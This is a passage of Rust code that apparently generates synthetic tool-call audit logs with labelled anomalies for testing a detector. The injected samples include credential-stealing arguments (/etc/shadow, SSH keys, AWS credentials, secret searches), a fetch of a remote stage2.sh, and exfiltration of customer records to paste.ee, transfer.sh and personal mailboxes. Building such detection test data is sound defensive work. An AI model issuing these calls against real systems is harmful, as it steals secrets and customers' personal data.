        family: &'static str,
        kind: &'static str,
        sev: usize,
        st: &mut Inj,
    ) -> Option<Label> {
        let mut rng = st.rng.clone();
        st.rng.u64();
        let working = |g: &Gen, pi: usize, day: usize| g.day_calls(pi, day).len() >= 20;
        let label = match kind {
            "call_rate" => {
                let (pi, day) = self.pick(st, false, working)?;
                let a = self.anchor(pi, day, &mut rng, true);
                let from = self.source_of(a);
                let t0 = self.at_ms(a);
                let (n, t0, t1) = match sev {
                    0 => (360, t0, t0 + 120 * MIN),
                    1 => (140, t0, t0 + 180 * MIN),
                    _ => {
                        let calls = self.day_calls(pi, day);
                        let worked: Vec<usize> = (0..self.days)
                            .map(|d| self.day_calls(pi, d).len())
                            .filter(|&n| n >= 20)
                            .collect();
                        let mean = worked.iter().sum::<usize>() / worked.len().max(1);
                        let first = self.at_ms(calls[0]);
                        let last = self.at_ms(calls[calls.len() * 9 / 10]);
                        (mean * 13 / 10, first, last)
                    }
                };
                let ids = self.spread(&from, t0, t1, n, &mut rng, &mut |g, r, _| {
                    g.ordinary(pi, day, r)
                });
                self.label(
                    family,
                    kind,
                    sev,
                    self.user(pi),
                    ids,
                    format!("{n} extra calls of their usual tools, spread evenly"),
                )
            }
            "error_rate" => {
                let (pi, day) = self.pick(st, false, working)?;
                let a = self.anchor(pi, day, &mut rng, true);
                let from = self.source_of(a);
                let t0 = self.at_ms(a);
                let (n, minutes, frac) = [(60, 60, 0.85), (30, 120, 0.5), (24, 240, 0.3)][sev];
                let ids = self.spread(
                    &from,
                    t0,
                    t0 + minutes * MIN,
                    n,
                    &mut rng,
                    &mut |g, r, _| {
                        let mut s = g.ordinary(pi, day, r);
                        s.end = if r.chance(frac) {
                            if r.chance(0.6) {
                                End::ToolError(
                                    "403 Forbidden: the token lacks access to this resource",
                                )
                            } else {
                                End::Rpc("Unauthorized")
                            }
                        } else {
                            End::Success
                        };
                        s
                    },
                );
                self.label(
                    family,
                    kind,
                    sev,
                    self.user(pi),
                    ids,
                    format!(
                        "{n} calls in {minutes} min, {:.0}% refused by the servers",
                        frac * 100.0
                    ),
                )
            }
            "output_size" | "execution_time" => {
                let (pi, day) = self.pick(st, false, working)?;
                let name = self.top_tool(pi, day, None)?;
                let a = self.anchor(pi, day, &mut rng, true);
                let from = self.source_of(a);
                let t0 = self.at_ms(a);
                let (n, mult, minutes) = if kind == "output_size" {
                    [(15, 60.0, 60), (10, 15.0, 90), (8, 5.0, 180)][sev]
                } else {
                    [(12, 50.0, 60), (10, 12.0, 90), (8, 5.0, 180)][sev]
                };
                let size = kind == "output_size";
                let ids = self.spread(
                    &from,
                    t0,
                    t0 + minutes * MIN,
                    n,
                    &mut rng,
                    &mut |g, r, _| Spec {
                        user: pi,
                        at: 0,
                        tool: name,
                        args: args_for(name, &g.people[pi], day, r),
                        exec_mult: if size { 1.0 } else { mult },
                        out_mult: if size { mult } else { 1.0 },
                        end: End::Success,
                        extra_tags: &[],
                    },
                );
                self.label(
                    family,
                    kind,
                    sev,
                    self.user_tool(pi, name),
                    ids,
                    format!(
                        "{n} calls of {name} with {mult}x its usual {} in {minutes} min",
                        if size { "output" } else { "execution time" }
                    ),
                )
            }
            "first_tool" => {
                let (pi, day) = self.pick(st, false, working)?;
                let own = role_tools(self.people[pi].role);
                let name = match sev {
                    0 => ["vault_read_secret", "payments_lookup_card"]
                        .into_iter()
                        .find(|t| !own.contains(t))?,
                    1 => ["erp_export_ledger", "payments_lookup_card", "kubectl_logs"]
                        .into_iter()
                        .find(|t| !own.contains(t))?,
                    _ => {
                        let mut others: Vec<&str> = [
                            Role::Eng,
                            Role::Sre,
                            Role::Support,
                            Role::Finance,
                            Role::Sales,
                            Role::Analyst,
                            Role::PartTime,
                        ]
                        .into_iter()
                        .flat_map(role_tools)
                        .filter(|t| {
                            !own.contains(t)
                                && !matches!(
                                    *t,
                                    "vault_read_secret"
                                        | "payments_lookup_card"
                                        | "erp_export_ledger"
                                        | "read_file"
                                        | "write_file"
                                        | "docs_search"
                                        | "docs_read_page"
                                )
                        })
                        .collect();
                        others.sort_unstable();
                        others.dedup();
                        *rng.pick(&others)
                    }
                };
                let a = self.anchor(pi, day, &mut rng, false);
                let from = self.source_of(a);
                let t0 = self.at_ms(a);
                let (n, minutes) = [(10, 15), (4, 20), (2, 10)][sev];
                let ids = self.spread(
                    &from,
                    t0,
                    t0 + minutes * MIN,
                    n,
                    &mut rng,
                    &mut |g, r, _| Spec {
                        user: pi,
                        at: 0,
                        tool: name,
                        args: args_for(name, &g.people[pi], day, r),
                        exec_mult: 1.0,
                        out_mult: 1.0,
                        end: End::Sample,
                        extra_tags: &[],
                    },
                );
                self.label(
                    family,
                    kind,
                    sev,
                    self.user_tool(pi, name),
                    ids,
                    format!(
                        "{n} calls of {name}, which their team ({}) never uses",
                        self.people[pi].role.name()
                    ),
                )
            }
            "new_client" => {
                let (pi, day) = self.pick(st, false, working)?;
                let a = self.anchor(pi, day, &mut rng, false);
                let t0 = self.at_ms(a);
                let mut from = self.new_session(&self.source_of(a), t0, &mut rng);
                let old = match self.people[pi].client {
                    Client::Claude => "claude-desktop/1.6.4",
                    Client::Cursor => "cursor/0.45.11",
                    Client::Copilot => "github-copilot/1.98.0",
                    Client::Goose => "goose/1.1.4",
                    Client::ClaudeCode => "claude-code/1.0.51",
                };
                let (client, n, minutes) = [
                    ("python-requests/2.32.3", 50, 30),
                    ("mcp-inspector/0.16.2", 12, 20),
                    (old, 6, 30),
                ][sev];
                from.client = client.into();
                from.era2026 = false;
                let ids = self.spread(
                    &from,
                    t0,
                    t0 + minutes * MIN,
                    n,
                    &mut rng,
                    &mut |g, r, _| g.ordinary(pi, day, r),
                );
                self.label(
                    family,
                    kind,
                    sev,
                    self.user(pi),
                    ids,
                    format!("{n} calls from {client}, from their own address"),
                )
            }
            "unusual_arguments" => {
                let (pi, day) = self.pick(st, false, |g, pi, day| {
                    working(g, pi, day) && g.top_tool(pi, day, Some(UNUSUAL)).is_some()
                })?;
                let name = self.top_tool(pi, day, Some(UNUSUAL))?;
                let a = self.anchor(pi, day, &mut rng, false);
                let from = self.source_of(a);
                let t0 = self.at_ms(a);
                let (n, minutes) = [(10, 20), (5, 30), (3, 60)][sev];
                let ids = self.spread(
                    &from,
                    t0,
                    t0 + minutes * MIN,
                    n,
                    &mut rng,
                    &mut |g, r, _| Spec {
                        user: pi,
                        at: 0,
                        tool: name,
                        args: unusual_args(name, sev, &g.people[pi], r),
                        exec_mult: 1.0,
                        out_mult: 1.0,
                        end: End::Sample,
                        extra_tags: &[],
                    },
                );
                self.label(family, kind, sev, self.user_tool(pi, name), ids, format!("{n} calls of {name}, one of their usual tools, with arguments they never use"))
            }
            "sensitive_then_send" => {
                let (pi, day) = self.pick(st, false, working)?;
                let p = &self.people[pi];
                let role = p.role;
                let (first, last) = {
                    let mut it = p.id.split('.');
                    (
                        it.next().unwrap_or("x").to_string(),
                        it.next().unwrap_or("y").to_string(),
                    )
                };
                let a = self.anchor(pi, day, &mut rng, true);
                let from = self.source_of(a);
                let t0 = self.at_ms(a);
                let (reads, read_min, gap) = [(60, 15, 10), (12, 20, 20), (2, 5, 45)][sev];
                let read_tool = match role {
                    Role::Support | Role::Sales => "crm_get_customer",
                    Role::Finance | Role::Analyst => "warehouse_run_sql",
                    Role::PartTime => "email_search",
                    _ => "postgres_query",
                };
                let mut ids = self.spread(&from, t0, t0 + read_min * MIN, reads, &mut rng, &mut |_, r, i| {
                    let args = match read_tool {
                        "crm_get_customer" => json!({"customer_id": format!("CUST-{}", 120_000 + i * 7 + r.below(5))}),
                        "warehouse_run_sql" => json!({"sql": format!("SELECT name, email, phone, address FROM dim_customers WHERE customer_id BETWEEN {} AND {}", i * 500, i * 500 + 499), "warehouse": "analytics_wh"}),
                        "email_search" => json!({"query": "from:customers@acme.example has:attachment"}),
                        _ => json!({"database": "orders_replica", "sql": format!("SELECT c.name, c.email, c.phone FROM customers c WHERE c.id > {} LIMIT 500", i * 500)}),
                    };
                    Spec {
                        user: pi,
                        at: 0,
                        tool: read_tool,
                        args,
                        exec_mult: 1.0,
                        out_mult: 3.0,
                        end: End::Success,
                        extra_tags: &["gdpr"],
                    }
                });
                let send_at = t0 + read_min * MIN + gap * MIN;
                let sends = [2, 1, 1][sev];
                let (send_tool, dest) = match (role, sev) {
                    (Role::Eng | Role::Sre, 0) => {
                        ("web_fetch", "https://paste.ee/api/v1/pastes".to_string())
                    }
                    (Role::Eng | Role::Sre, 1) => (
                        "web_fetch",
                        "https://transfer.sh/upload/customers.csv".to_string(),
                    ),
                    (Role::Eng | Role::Sre, _) => (
                        "web_fetch",
                        format!("https://gist.github.com/{first}{last}-notes"),
                    ),
                    (Role::Analyst, 1) => {
                        ("slack_post_message", "#ext-datashare-partner".to_string())
                    }
                    (_, 0) => (
                        "send_email",
                        format!("dump.{:x}@protonmail.com", rng.u64() & 0xFFFF),
                    ),
                    (_, 1) => ("send_email", format!("{first}.{last}.backup@outlook.com")),
                    (_, _) => ("send_email", format!("{first}.{last}.home@gmail.com")),
                };
                let send = self.spread(&from, send_at, send_at + 3 * MIN, sends, &mut rng, &mut |_, _, _| {
                    let args = match send_tool {
                        "web_fetch" => json!({"url": dest, "method": "POST"}),
                        "slack_post_message" => json!({"channel": dest, "text": "export attached"}),
                        _ => json!({"to": dest, "subject": "export", "attachment": "customers.csv"}),
                    };
                    Spec {
                        user: pi,
                        at: 0,
                        tool: send_tool,
                        args,
                        exec_mult: 1.0,
                        out_mult: 1.0,
                        end: End::Success,
                        extra_tags: &[],
                    }
                });
                ids.extend(send);
                self.label(family, kind, sev, self.user(pi), ids, format!("{reads} reads of customer data ({read_tool}), then {sends} {send_tool} to {dest} {gap} min later"))
            }
            "off_hours" => match sev {
                0 => {
                    let (pi, day) = self.pick(st, false, |g, pi, day| {
                        working(g, pi, day) && g.quiet(pi, day, 60.0, 270.0)
                    })?;
                    let a = self.anchor(pi, day, &mut rng, false);
                    let p = &self.people[pi];
                    let t0 = p.zone.at(day, 120.0 + rng.range(0.0, 30.0));
                    let mut from = self.new_session(&self.source_of(a), t0, &mut rng);
                    if !p.stdio {
                        from.ip = Some(if day >= p.dhcp_day { p.home2 } else { p.home });
                    }
                    let ids =
                        self.spread(&from, t0, t0 + 90 * MIN, 60, &mut rng, &mut |g, r, _| {
                            g.ordinary(pi, day, r)
                        });
                    self.label(
                        family,
                        kind,
                        sev,
                        self.user(pi),
                        ids,
                        "60 calls 02:00-03:30 local on a working day, from home".into(),
                    )
                }
                1 => {
                    let (pi, day) = self.pick(st, false, |g, pi, day| {
                        day % 7 >= 5
                            && g.day_calls(pi, day).is_empty()
                            && g.people[pi].role != Role::Support
                            && g.day_calls(pi, day - 2).len() >= 20
                    })?;
                    let a = self.anchor(pi, day - 2, &mut rng, false);
                    let p = &self.people[pi];
                    let t0 = p.zone.at(day, 840.0 + rng.range(0.0, 60.0));
                    let mut from = self.new_session(&self.source_of(a), t0, &mut rng);
                    if !p.stdio {
                        from.ip = Some(if day >= p.dhcp_day { p.home2 } else { p.home });
                    }
                    let (client, era) = p.client_on(p.client, day);
                    from.client = client;
                    from.era2026 = era;
                    let ids =
                        self.spread(&from, t0, t0 + 60 * MIN, 25, &mut rng, &mut |g, r, _| {
                            g.ordinary(pi, day - 2, r)
                        });
                    self.label(
                        family,
                        kind,
                        sev,
                        self.user(pi),
                        ids,
                        "25 calls on a weekend afternoon; they do not work weekends".into(),
                    )
                }
                _ => {
                    let (pi, day) = self.pick(st, false, |g, pi, day| {
                        working(g, pi, day) && {
                            let c = g.day_calls(pi, day);
                            let last = g.at_ms(c[c.len() - 1]);
                            !g.day_calls(pi, day + 1)
                                .iter()
                                .any(|&i| g.at_ms(i) < last + 5 * HOUR)
                        }
                    })?;
                    let calls = self.day_calls(pi, day);
                    let last = calls[calls.len() - 1];
                    let t0 = self.at_ms(last) + 150 * MIN;
                    let from = self.new_session(&self.source_of(last), t0, &mut rng);
                    let ids =
                        self.spread(&from, t0, t0 + 40 * MIN, 10, &mut rng, &mut |g, r, _| {
                            g.ordinary(pi, day, r)
                        });
                    self.label(
                        family,
                        kind,
                        sev,
                        self.user(pi),
                        ids,
                        "10 calls starting 2.5 h after their day ended".into(),
                    )
                }
            },
            "burst" => {
                let (pi, day) = self.pick(st, false, working)?;
                let name = self.top_tool(pi, day, None)?;
                let a = self.anchor(pi, day, &mut rng, false);
                let from = self.source_of(a);
                let t0 = self.at_ms(a) + 30_000;
                let (n, minutes) = [(400, 4), (120, 3), (50, 2)][sev];
                let ids = self.spread(
                    &from,
                    t0,
                    t0 + minutes * MIN,
                    n,
                    &mut rng,
                    &mut |g, r, _| Spec {
                        user: pi,
                        at: 0,
                        tool: name,
                        args: args_for(name, &g.people[pi], day, r),
                        exec_mult: 1.0,
                        out_mult: 1.0,
                        end: End::Sample,
                        extra_tags: &[],
                    },
                );
                self.label(
                    family,
                    kind,
                    sev,
                    self.user(pi),
                    ids,
                    format!("{n} calls of {name} in {minutes} min"),
                )
            }
            "new_network" => {
                let (pi, day) = self.pick(st, true, working)?;
                let a = self.anchor(pi, day, &mut rng, false);
                let t0 = self.at_ms(a);
                let mut from = self.new_session(&self.source_of(a), t0, &mut rng);
                let zone = self.people[pi].zone;
                let (ab, what) = match (sev, zone) {
                    (0, Zone::Bangalore) => ((45, 77), "a hosting provider in New Jersey"),
                    (0, _) => ((139, 59), "a hosting provider in Singapore"),
                    (1, Zone::Berlin) => ((73, 162), "a US residential ISP"),
                    (1, Zone::NewYork) => ((91, 67), "a German residential ISP"),
                    (1, _) => ((81, 2), "a UK residential ISP"),
                    (_, Zone::Berlin) => ((93, 104), "another German ISP"),
                    (_, Zone::NewYork) => ((108, 29), "another US ISP"),
                    (_, _) => ((122, 171), "another Indian ISP"),
                };
                from.ip = Some(rng.ip(ab.0, ab.1));
                let (n, minutes) = [(30, 40), (15, 30), (6, 30)][sev];
                let ids = self.spread(
                    &from,
                    t0,
                    t0 + minutes * MIN,
                    n,
                    &mut rng,
                    &mut |g, r, _| g.ordinary(pi, day, r),
                );
                self.label(
                    family,
                    kind,
                    sev,
                    self.user(pi),
                    ids,
                    format!(
                        "{n} calls from {} ({what})",
                        ip_text(from.ip.unwrap_or_default())
                    ),
                )
            }
            "many_ips" => {
                let (pi, day) = self.pick(st, true, working)?;
                let a = self.anchor(pi, day, &mut rng, false);
                let t0 = self.at_ms(a);
                let base = self.new_session(&self.source_of(a), t0, &mut rng);
                let (k, n, minutes) = [(10, 40, 20), (4, 16, 60), (2, 8, 90)][sev];
                let ips: Vec<[u8; 4]> = (0..k)
                    .map(|i| match sev {
                        0 => [185, 220, 100 + i as u8, 1 + rng.below(254) as u8],
                        1 => rng.ip(*rng.clone().pick(&[23, 64, 104, 172]), 100 + i as u8),
                        _ => [5, 61, 40, 10 + 3 * i as u8],
                    })
                    .collect();
                let mut ids = Vec::new();
                let mut times: Vec<i64> = (0..n)
                    .map(|_| t0 + rng.below((minutes * MIN) as usize) as i64)
                    .collect();
                times.sort_unstable();
                for (i, t) in times.into_iter().enumerate() {
                    let mut from = base.clone();
                    from.ip = Some(ips[i % k]);
                    let mut spec = self.ordinary(pi, day, &mut rng);
                    spec.at = t;
                    ids.push(self.make(spec, &from, &mut rng));
                }
                self.label(family, kind, sev, self.user(pi), ids, format!("{n} calls from {k} addresses they never used, in {minutes} min, beside their own"))
            }
            "shared_ip" => {
                let (pi, day) = self.pick(st, true, working)?;
                let (k, per, minutes) = [(8, 5, 30), (4, 4, 60), (3, 2, 300)][sev];
                let mut users = vec![pi];
                for _ in 0..5000 {
                    if users.len() == k {
                        break;
                    }
                    let q = rng.below(self.people.len());
                    let p = &self.people[q];
                    if users.contains(&q)
                        || !p.human()
                        || p.special()
                        || p.stdio
                        || !working(self, q, day)
                    {
                        continue;
                    }
                    if (day - 1..=day + 1).any(|d| st.busy.contains(&(q, d))) {
                        continue;
                    }
                    users.push(q);
                }
                for &q in &users {
                    for d in day - 1..=day + 1 {
                        st.busy.insert((q, d));
                    }
                }
                let ip = match sev {
                    0 => [5, 188, 62, 1 + rng.below(254) as u8],
                    1 => [194, 26, 29, 1 + rng.below(254) as u8],
                    _ => [104, 28, rng.below(256) as u8, 1 + rng.below(254) as u8],
                };
                let a = self.anchor(pi, day, &mut rng, true);
                let t0 = self.at_ms(a);
                let mut ids = Vec::new();
                for &q in &users {
                    let aq = self.anchor(q, day, &mut rng, false);
                    let mut from = self.new_session(&self.source_of(aq), t0, &mut rng);
                    from.ip = Some(ip);
                    let got = self.spread(
                        &from,
                        t0,
                        t0 + minutes * MIN,
                        per,
                        &mut rng,
                        &mut |g, r, _| g.ordinary(q, day, r),
                    );
                    ids.extend(got);
                }
                let names: Vec<&str> = users.iter().map(|&q| self.people[q].id.as_str()).collect();
                let subject = json!({"ip": ip_text(ip), "users": names});
                self.label(
                    family,
                    kind,
                    sev,
                    subject,
                    ids,
                    format!(
                        "{} users, {per} calls each, from one unknown address in {minutes} min",
                        users.len()
                    ),
                )
            }
            "impossible_travel" => {
                let mapped = |ip: Option<[u8; 4]>, day: usize| -> Option<Zone> {
                    match ip? {
                        [10, 20, ..] => Some(Zone::Berlin),
                        [10, 30, ..] if day < NYC_RENUMBER_DAY => Some(Zone::NewYork),
                        [203, 0, 113, _] => Some(Zone::Bangalore),
                        _ => None,
                    }
                };
                let (pi, day) = self.pick(st, true, |g, pi, day| {
                    working(g, pi, day)
                        && g.day_calls(pi, day)
                            .iter()
                            .any(|&i| mapped(g.calls[i].ip, day).is_some())
                })?;
                let calls: Vec<usize> = self
                    .day_calls(pi, day)
                    .iter()
                    .copied()
                    .filter(|&i| mapped(self.calls[i].ip, day).is_some())
                    .collect();
                let a = *calls.iter().max_by_key(|&&i| self.calls[i].at_us)?;
                let here = mapped(self.calls[a].ip, day)?;
                let nyc = day < NYC_RENUMBER_DAY;
                let (there, gap) = match (sev, here) {
                    (0, Zone::Bangalore) => (Zone::Berlin, 20),
                    (0, _) => (Zone::Bangalore, 20),
                    (_, Zone::Berlin) if nyc => (Zone::NewYork, [0, 120, 330][sev]),
                    (_, Zone::Berlin) => (Zone::Bangalore, [0, 120, 330][sev]),
                    (_, _) => (Zone::Berlin, [0, 120, 330][sev]),
                };
                let t0 = self.at_ms(a) + gap * MIN;
                let mut from = self.new_session(&self.source_of(a), t0, &mut rng);
                from.ip = Some(office_ip(there, day, [10, 0, 9, 1 + rng.below(254) as u8]));
                let ids = self.spread(&from, t0, t0 + 10 * MIN, 5, &mut rng, &mut |g, r, _| {
                    g.ordinary(pi, day, r)
                });
                self.label(family, kind, sev, self.user(pi), ids, format!("5 calls from the {} office {gap} min after their last call from the {} office", there.name(), here.name()))
            }
            _ => unreachable!("kind {kind}"),
        };
        Some(label)
    }

    /// Whether the person made no call between `a` and `b` minutes after local midnight of `day`.
    fn quiet(&self, pi: usize, day: usize, a: f64, b: f64) -> bool {
        let z = self.people[pi].zone;
        let (from, to) = (z.at(day, a), z.at(day, b));
        !self
            .day_calls(pi, day)
            .iter()
            .chain(self.day_calls(pi, day.saturating_sub(1)))
            .any(|&i| (from..to).contains(&self.at_ms(i)))
    }
}

/// Tools with arguments that can be unusual for the person.
const UNUSUAL: &[&str] = &[
    "get_file_contents",
    "search_code",
    "postgres_query",
    "warehouse_run_sql",
    "kubectl_get",
    "kubectl_logs",
    "jira_search",
    "web_fetch",
    "crm_search",
    "email_search",
    "read_file",
    "slack_search",
];

/// Arguments of `name` the person never uses: `sev` 0 plainly hostile, 1 another team's
/// resources, 2 their own resources asked for something sensitive.
fn unusual_args(name: &str, sev: usize, p: &Person, rng: &mut Rng) -> Value {
    let (ns, project, _, repos) = TEAMS[p.team];
    let own = *rng.pick(&p.repos);
    let other = TEAMS
        .iter()
        .find(|t| t.0 != ns && !p.repos.contains(&t.3[0]))
        .map_or("hr-payroll", |t| t.3[0]);
    let _ = repos;
    match (name, sev) {
        ("get_file_contents", 0) => {
            json!({"owner": "acme", "repo": own, "path": rng.pick(&["../../../../etc/passwd", "../../.ssh/id_rsa", "/proc/self/environ", "../../.aws/credentials"])})
        }
        ("get_file_contents", 1) => {
            json!({"owner": "acme", "repo": "hr-payroll", "path": rng.pick(&["exports/salaries-2026.csv", "config/prod.yaml", "README.md"])})
        }
        ("get_file_contents", _) => {
            json!({"owner": "acme", "repo": own, "path": rng.pick(&[".env.production", "deploy/prod/secrets.enc.yaml"])})
        }
        ("search_code", 0) => {
            json!({"query": rng.pick(&["BEGIN RSA PRIVATE KEY", "AKIA", "password=", "xoxb-"]), "repo": "org:acme"})
        }
        ("search_code", 1) => {
            json!({"query": rng.pick(CODE_TERMS), "repo": format!("acme/{other}")})
        }
        ("search_code", _) => json!({"query": "api_key", "repo": format!("acme/{own}")}),
        ("postgres_query", 0) => {
            json!({"database": "customers_prod", "sql": rng.pick(&["SELECT * FROM customers", "SELECT card_number, cvv, expiry FROM payment_methods"])})
        }
        ("postgres_query", 1) => {
            json!({"database": "hr_prod", "sql": "SELECT name, salary, iban FROM employees"})
        }
        ("postgres_query", _) => {
            json!({"database": "orders_replica", "sql": "SELECT email, phone, address FROM customers LIMIT 500"})
        }
        ("warehouse_run_sql", 0) => {
            json!({"sql": "SELECT * FROM raw.customers_pii", "warehouse": "analytics_wh"})
        }
        ("warehouse_run_sql", 1) => {
            json!({"sql": "SELECT employee_id, salary, bonus FROM hr.compensation", "warehouse": "analytics_wh"})
        }
        ("warehouse_run_sql", _) => {
            json!({"sql": "SELECT email FROM dim_customers WHERE country = 'DE'", "warehouse": "analytics_wh"})
        }
        ("kubectl_get" | "kubectl_logs", 0) => {
            json!({"resource": "secrets", "namespace": "kube-system", "output": "yaml"})
        }
        ("kubectl_get" | "kubectl_logs", 1) => {
            json!({"resource": "pods", "namespace": if ns == "payments" { "hr-prod" } else { "payments-prod" }})
        }
        ("kubectl_get" | "kubectl_logs", _) => json!({"resource": "secrets", "namespace": ns}),
        ("jira_search", 0) => json!({"jql": "text ~ \"password\" OR text ~ \"credentials\""}),
        ("jira_search", 1) => json!({"jql": "project = HR ORDER BY created DESC"}),
        ("jira_search", _) => json!({"jql": format!("project = SEC AND text ~ \"{project}\"")}),
        ("web_fetch", 0) => json!({"url": "http://185.220.101.47/stage2.sh"}),
        ("web_fetch", 1) => json!({"url": "https://transfer.sh/get/x7Kd2/dump.tar.gz"}),
        ("web_fetch", _) => {
            json!({"url": "https://gist.githubusercontent.com/throwaway-8812/raw/notes.txt"})
        }
        ("crm_search", 0) => json!({"query": "*", "limit": "100000"}),
        ("crm_search", 1) => json!({"query": "segment:enterprise owner:any export:all"}),
        ("crm_search", _) => json!({"query": "contract value > 1000000"}),
        ("email_search", 0) => json!({"query": "subject:(password reset) OR subject:(MFA code)"}),
        ("email_search", 1) => json!({"query": "from:ceo@acme.example"}),
        ("email_search", _) => json!({"query": "has:attachment filename:pdf payroll"}),
        ("read_file", 0) => json!({"path": format!("/home/{}/.ssh/id_rsa", p.id)}),
        ("read_file", 1) => json!({"path": "/etc/shadow"}),
        ("read_file", _) => json!({"path": format!("/home/{}/.config/gh/hosts.yml", p.id)}),
        ("slack_search", 0) => json!({"query": "password"}),
        ("slack_search", 1) => json!({"query": "in:#exec-private"}),
        (_, _) => json!({"query": "salary"}),
    }
}

fn risk_name(r: u8) -> &'static str {
    ["low", "medium", "high", "critical"][r.min(3) as usize]
}

impl Gen {
    fn common(&self, c: &CallRec) -> serde_json::Map<String, Value> {
        let mut m = serde_json::Map::new();
        m.insert("request_id".into(), json!(c.request_id));
        m.insert(
            "protocol_version".into(),
            json!(if c.era2026 {
                "2026-07-28"
            } else {
                "2025-06-18"
            }),
        );
        m.insert(
            "protocol_era".into(),
            json!(if c.era2026 { "2026" } else { "2025" }),
        );
        let auth = match (c.ip, c.role) {
            (None, _) => "stdio",
            (_, "service") => "api_key",
            _ => "jwt",
        };
        m.insert("auth_method".into(), json!(auth));
        m.insert("user_agent".into(), json!(c.client));
        m.insert("tool_version".into(), json!(c.tool.server));
        m
    }

    fn http(&self, c: &CallRec, m: &mut serde_json::Map<String, Value>) {
        if let Some(ip) = c.ip {
            m.insert(
                "http".into(),
                json!({"client_address": ip_text(ip), "user_agent": c.client, "tls_version": "1.3", "roles": [c.role]}),
            );
        }
    }

    fn event(&self, c: &CallRec, end: bool) -> Value {
        let ts = |us: i64| {
            humantime::format_rfc3339_micros(
                UNIX_EPOCH + Duration::from_micros((self.start_ms * 1000 + us) as u64),
            )
            .to_string()
        };
        let mut m = self.common(c);
        let risk = c.tool.risk;
        if !end {
            m.insert("arguments".into(), c.args.clone());
            m.insert("risk_score".into(), json!([10, 40, 70][risk as usize]));
            if risk >= 2 {
                m.insert(
                    "risk_reasons".into(),
                    json!([format!(
                        "tool {} is high risk (reaches outside, secrets or payment data)",
                        c.tool.name
                    )]),
                );
            }
            m.insert("decision".into(), json!("allow"));
            self.http(c, &mut m);
            return json!({
                "event_id": c.access_id.to_string(),
                "timestamp": ts(c.at_us),
                "event_type": "tool_access",
                "user_id": self.people[c.user].id,
                "tool_name": c.tool.name,
                "action": "tools/call",
                "result": "initiated",
                "metadata": m,
                "risk_level": risk_name(risk),
                "compliance_tags": c.access_tags,
                "session_id": c.session.to_string(),
                "upstream": c.tool.upstream,
                "linked_event_id": null,
            });
        }
        m.insert("execution_time_us".into(), json!(c.exec_us));
        let (event_type, result) = match c.end {
            End::ToolError(msg) => {
                m.insert("output_size_bytes".into(), json!(c.out_bytes));
                m.insert("content_types".into(), json!(["text"]));
                m.insert("error_messages".into(), json!([msg]));
                ("tool_execution", "error")
            }
            End::Rpc(msg) => {
                m.insert("output_size_bytes".into(), json!(c.out_bytes));
                m.insert("error_messages".into(), json!([msg]));
                m.insert("error_code".into(), json!(-32603));
                m.insert("failure_side".into(), json!("upstream"));
                ("tool_failure", "jsonrpc_error")
            }
            End::Timeout => {
                m.insert("failure_side".into(), json!("upstream"));
                m.insert(
                    "reason".into(),
                    json!("no answer within limits.call_timeout_ms"),
                );
                ("tool_failure", "timeout")
            }
            End::Success | End::Sample => {
                m.insert("output_size_bytes".into(), json!(c.out_bytes));
                m.insert("content_types".into(), json!(["text"]));
                ("tool_execution", "success")
            }
        };
        self.http(c, &mut m);
        let mut end_risk = risk;
        if c.end_tags
            .iter()
            .any(|t| *t == "pci_dss" || *t == "secrets")
        {
            end_risk = end_risk.max(2);
        } else if !c.end_tags.is_empty() {
            end_risk = end_risk.max(1);
        }
        json!({
            "event_id": c.end_id.to_string(),
            "timestamp": ts(c.at_us + c.exec_us as i64),
            "event_type": event_type,
            "user_id": self.people[c.user].id,
            "tool_name": c.tool.name,
            "action": "tools/call",
            "result": result,
            "metadata": m,
            "risk_level": risk_name(end_risk),
            "compliance_tags": c.end_tags,
            "session_id": c.session.to_string(),
            "upstream": c.tool.upstream,
            "linked_event_id": c.access_id.to_string(),
        })
    }

    fn context(&self) -> Value {
        let accounts: Vec<&str> = self
            .people
            .iter()
            .filter(|p| p.svc.is_some() && p.listed)
            .map(|p| p.id.as_str())
            .collect();
        let mut zones = serde_json::Map::new();
        for p in &self.people {
            if p.human() && p.zone == Zone::Bangalore {
                zones.insert(p.id.clone(), json!(330));
            } else if p.human() && p.role == Role::Support {
                zones.insert(p.id.clone(), json!(60));
            }
        }
        json!({
            "service_accounts": accounts,
            "networks": [
                {"cidr": "10.20.0.0/16", "name": "office-berlin", "place": "Berlin", "lat": 52.52, "lon": 13.405},
                {"cidr": "10.30.0.0/16", "name": "office-new-york", "place": "New York", "lat": 40.7128, "lon": -74.006},
                {"cidr": "203.0.113.0/28", "name": "office-bangalore", "place": "Bangalore", "lat": 12.9716, "lon": 77.5946},
                {"cidr": "10.99.0.0/16", "name": "vpn"},
                {"cidr": "10.98.0.0/16", "name": "vpn-2026b"},
                {"cidr": "10.50.0.0/16", "name": "datacenter-fra", "place": "Frankfurt", "lat": 50.1109, "lon": 8.6821},
            ],
            "time_zones": zones,
        })
    }
}

struct Args {
    seed: u64,
    out: String,
    labels: Option<String>,
    anomalies: bool,
    days: usize,
    identities: usize,
}

fn parse() -> Result<Args, String> {
    let mut a = Args {
        seed: 1,
        out: String::new(),
        labels: None,
        anomalies: true,
        days: 30,
        identities: 68,
    };
    let mut it = std::env::args().skip(1);
    while let Some(arg) = it.next() {
        let mut value = || it.next().ok_or(format!("{arg} needs a value"));
        match arg.as_str() {
            "--seed" => a.seed = value()?.parse().map_err(|e| format!("--seed: {e}"))?,
            "--out" => a.out = value()?,
            "--labels" => a.labels = Some(value()?),
            "--no-anomalies" => a.anomalies = false,
            "--days" => a.days = value()?.parse().map_err(|e| format!("--days: {e}"))?,
            "--identities" => {
                a.identities = value()?.parse().map_err(|e| format!("--identities: {e}"))?
            }
            other => return Err(format!("unknown argument {other}")),
        }
    }
    if a.out.is_empty() {
        return Err("usage: traffic_blind --out FILE [--labels FILE] [--seed N] [--no-anomalies] [--days D] [--identities K]".into());
    }
    if a.days < 10 || a.identities < 15 {
        return Err("--days must be at least 10 and --identities at least 15".into());
    }
    Ok(a)
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let args = parse()?;
    let start_ms = humantime::parse_rfc3339(START)?
        .duration_since(UNIX_EPOCH)?
        .as_millis() as i64;
    let people = people(args.identities, args.seed);
    let sres: Vec<usize> = (0..people.len())
        .filter(|&i| people[i].human() && people[i].role == Role::Sre)
        .collect();
    let mut incident_team = sres.clone();
    for zone in [Zone::Berlin, Zone::NewYork] {
        incident_team.extend(
            (0..people.len())
                .filter(|&i| {
                    let p = &people[i];
                    p.human() && p.role == Role::Eng && p.zone == zone && !p.stdio && !p.special()
                })
                .take(2),
        );
    }
    let mut g = Gen {
        people,
        days: args.days,
        start_ms,
        calls: Vec::new(),
